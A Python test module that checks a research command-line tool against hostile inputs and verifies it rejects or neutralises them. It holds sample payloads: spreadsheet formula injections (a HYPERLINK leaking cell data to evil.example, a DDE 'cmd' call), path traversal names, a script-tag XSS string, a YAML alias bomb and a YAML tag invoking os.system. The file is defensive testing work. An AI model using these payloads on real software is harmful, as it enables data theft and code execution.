"""The named cases of the safety round on the study commands: formula text in every table and
workbook, names that would become paths, data files that are devices or other files, a
results.json that points outside its folder or holds NaN, a comparison over the study's report,
study files that are alias bombs, deep, tagged or UTF-16. Each is one clear line (exit 2) or a
correct result, and no file outside the output is touched."""
from __future__ import annotations

import io
import json
import shutil

import numpy as np
import pandas as pd
import pytest

from digigov.cli import main
from libdigigov.safety import is_formula_like

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "=cmd|' /C calc'!A0"
CASES = [HYPERLINK, CALC, "+1+2", "-2+3", "@SUM(A1)"] + [f"c{i}" for i in range(15)]


def _study(folder, *, extra: str = "", composites: str = "", data_file: str = "data.csv") -> str:
    rng = np.random.default_rng(7)
    x = rng.uniform(0, 100, size=(len(CASES), 4))
    df = pd.DataFrame(np.round(x, 1), columns=["A", "B", "C", "D"])
    df.insert(0, "case", CASES)
    df["Y"] = np.round(np.clip(np.minimum(df["A"], df["B"]) + rng.normal(0, 10, len(df)), 0, 100), 1)
    df.to_csv(folder / "data.csv", index=False)
    conditions = "[A, B, C" + (", evil" if composites else "") + "]"
    text = f"""study: {{title: "{CALC.replace('"', "'")}"}}
data: {{file: {data_file}, case_column: case}}
outcome: Y
conditions: {conditions}
labels:
  A: {{en: "=cmd|' /C calc'!A0", zh: "@SUM(1)"}}
truth_table: {{incl_cut: 0.8, pri_cut: 0.5, n_cut: 1}}
geodetector: {{method: quantile, k: 3}}
report: {{language: en, maps: false}}
{composites}{extra}"""
    (folder / "study.yaml").write_text(text, encoding="utf-8")
    return str(folder / "study.yaml")


def _snapshot(root):
    return {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    work = root / "a" / "b" / "c" / "d" / "e"
    work.mkdir(parents=True)
    composites = """composites:
  ../../../../../evil_comp: {method: entropy, columns: [C, D]}
"""
    text = _study(work, composites=composites)
    text_path = work / "study.yaml"
    body = text_path.read_text(encoding="utf-8").replace(", evil]", ", ../../../../../evil_comp]")
    text_path.write_text(body, encoding="utf-8")
    before = _snapshot(root)
    status = main(["run", text, "--out", str(work / "R"), "--no-figures", "--quiet"])
    return root, work, before, status


def test_hostile_names_stay_inside_the_results_folder(hostile_run):
    root, work, before, status = hostile_run
    assert status == 0
    after = _snapshot(root)
    outside = [p for p in after if not p.is_relative_to(work / "R")]
    assert sorted(outside) == sorted(before)                       # nothing written outside --out
    assert all(after[p] == before[p] for p in before)              # no input changed
    # the composite's weights table is written, under a safe name, inside tables/
    assert [p.name for p in (work / "R" / "tables").glob("composites_*")] == \
        [p.name for p in (work / "R" / "tables").iterdir() if p.name.startswith("composites_")] != []


def test_no_csv_cell_can_become_a_formula(hostile_run):
    _, work, _, _ = hostile_run
    seen = set()
    for path in (work / "R" / "tables").glob("*.csv"):
        frame = pd.read_csv(path, encoding="utf-8-sig", header=None, dtype=str, keep_default_na=False)
        for cell in frame.to_numpy().ravel():
            assert not is_formula_like(cell), (path.name, cell)
            seen.add(cell)
    assert "'" + HYPERLINK in seen and "'" + CALC in seen            # the real value stays visible


def test_excel_export_has_no_formula_cell(hostile_run, capsys):
    import openpyxl

    _, work, _, _ = hostile_run
    out = work / "tables.xlsx"
    assert main(["export", str(work / "R"), "--out", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not is_formula_like(cell.value), (ws.title, cell.coordinate, cell.value)
                texts.append(cell.value)
    assert "'" + HYPERLINK in texts


def test_html_is_escaped_in_the_report(tmp_path):
    folder = tmp_path
    _study(folder)
    body = (folder / "study.yaml").read_text(encoding="utf-8")
    body = body.replace('A: {en: "=cmd', 'A: {en: "<script>alert(1)</script>=cmd')
    (folder / "study.yaml").write_text(body, encoding="utf-8")
    assert main(["run", str(folder / "study.yaml"), "--out", str(folder / "R"), "--no-figures", "--quiet"]) == 0
    html = (folder / "R" / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;" in html


# ---- results folders ----------------------------------------------------------------------------
@pytest.fixture
def results(hostile_run, tmp_path):
    _, work, _, _ = hostile_run
    folder = tmp_path / "R"
    shutil.copytree(work / "R", folder)
    return folder


def _edit(folder, change):
    path = folder / "results.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(json.dumps(data, allow_nan=True), encoding="utf-8")


@pytest.mark.parametrize("rel", ["ABSOLUTE", "../secret.csv", "tables/../../secret.csv", "tables/link.csv"])
def test_export_reads_only_inside_the_results_folder(results, tmp_path, capsys, rel):
    import os

    (tmp_path / "secret.csv").write_text("secret,value\nx,1\n")
    os.symlink(tmp_path / "secret.csv", results / "tables" / "link.csv")
    rel = str(tmp_path / "secret.csv") if rel == "ABSOLUTE" else rel
    _edit(results, lambda d: d["files"].update(tables=[rel]))
    assert main(["export", str(results), "--out", str(tmp_path / "t.xlsx")]) == 2
    err = capsys.readouterr().err
    assert "outside the folder" in err and err.count("\n") == 1 and not (tmp_path / "t.xlsx").exists()


@pytest.mark.parametrize("change, command, message", [
    (lambda d: d["solution_fit"].update(inclS=float("nan")), "report", "NaN"),
    (lambda d: d["solution_fit"].update(inclS=float("inf")), "report", "Infinity"),
    (lambda d: d["truth_table"]["rows"][0].update(n=-3), "export", "minimum"),
    (lambda d: d["truth_table"]["rows"][0].update(n=-3), "report", "minimum"),
    (lambda d: next(iter(d["memberships"].values())).update(Y="0.9"), "report", "number"),
    (lambda d: next(iter(d["memberships"].values())).update(Y="0.9"), "export", "number"),
])
def test_every_reader_validates_the_same_way(results, tmp_path, capsys, change, command, message):
    _edit(results, change)
    argv = ["report", str(results), "--output", str(tmp_path / "r.html")] if command == "report" else \
        ["export", str(results), "--out", str(tmp_path / "t.xlsx")]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1 and "Traceback" not in err


def test_compare_does_not_replace_the_study_report(results, capsys):
    report = (results / "report.html").read_bytes()
    assert main(["compare", "c1", "--results", str(results), "--output", str(results / "report.html")]) == 2
    assert "use --force" in capsys.readouterr().err
    assert (results / "report.html").read_bytes() == report


# ---- data files and study files -------------------------------------------------------------------
def test_data_file_that_is_a_device_or_another_file(tmp_path, capsys):
    _study(tmp_path, data_file="/dev/zero")
    assert main(["run", str(tmp_path / "study.yaml"), "--out", str(tmp_path / "R"), "--quiet"]) == 2
    assert "not a regular file" in capsys.readouterr().err
    shadow = tmp_path / "shadow"
    shadow.write_text("root:$6$saltsalt$secrethash:19000:0:99999:7:::\nbin:*:19000:0:99999:7:::\n")
    _study(tmp_path, data_file=str(shadow))
    assert main(["run", str(tmp_path / "study.yaml"), "--out", str(tmp_path / "R"), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "secrethash" not in err and "one column only" in err


def _bomb() -> str:
    names = "abcdefghi"
    text = 'x0: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    for i, (p, c) in enumerate(zip(names, names[1:])):
        text += f"x{i + 1}: &{c} [" + ", ".join([f"*{p}"] * 9) + "]\n"
    return text


@pytest.mark.parametrize("content, message", [
    (_bomb().encode(), "alias bomb"),
    (("outcome: " + "[" * 50_000 + "]" * 50_000).encode(), "nested more than"),
    (b"outcome: !!python/object/apply:os.system ['touch PWNED']\n", "is not allowed"),
    ("data: {example: true}\noutcome: P\nconditions: [G]\n".encode("utf-16"), "UTF-16"),
    (b"outcome: " + b"Y" * 2_000_000, "bytes"),
])
def test_hostile_study_files_are_one_clear_line(tmp_path, capsys, monkeypatch, content, message):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "study.yaml").write_bytes(content)
    assert main(["run", "study.yaml", "--out", "R", "--quiet"]) == 2
    err = capsys.readouterr().err
    assert message in err and err.count("\n") == 1 and len(err) < 500
    assert not (tmp_path / "PWNED").exists() and not (tmp_path / "R").exists()


def test_empty_panel_section_runs_a_panel_with_the_defaults():
    from digigov.study import load_study
    from digigov.variants import Panel, variant_of

    def is_panel(study):
        return isinstance(variant_of(study), Panel)

    study = load_study(text="data: {example: true}\noutcome: P\nconditions: [G, T]\npanel: {}\n")
    assert is_panel(study) and study.get("panel", "unit") == "province" and study.get("panel", "period") == "year"
    assert not is_panel(load_study(text="data: {example: true}\noutcome: P\nconditions: [G, T]\n"))


def test_a_run_the_machine_cannot_hold_is_refused_before_it_starts(tmp_path, capsys, monkeypatch):
    import digigov.pipeline

    monkeypatch.setattr(digigov.pipeline, "memory_estimate", lambda n, k: 64e12)
    _study(tmp_path)
    assert main(["run", str(tmp_path / "study.yaml"), "--out", str(tmp_path / "R")]) == 2
    err = capsys.readouterr().err
    assert "the run of 20 cases needs about 64000.0 GB of memory" in err and "[2/8]" not in err
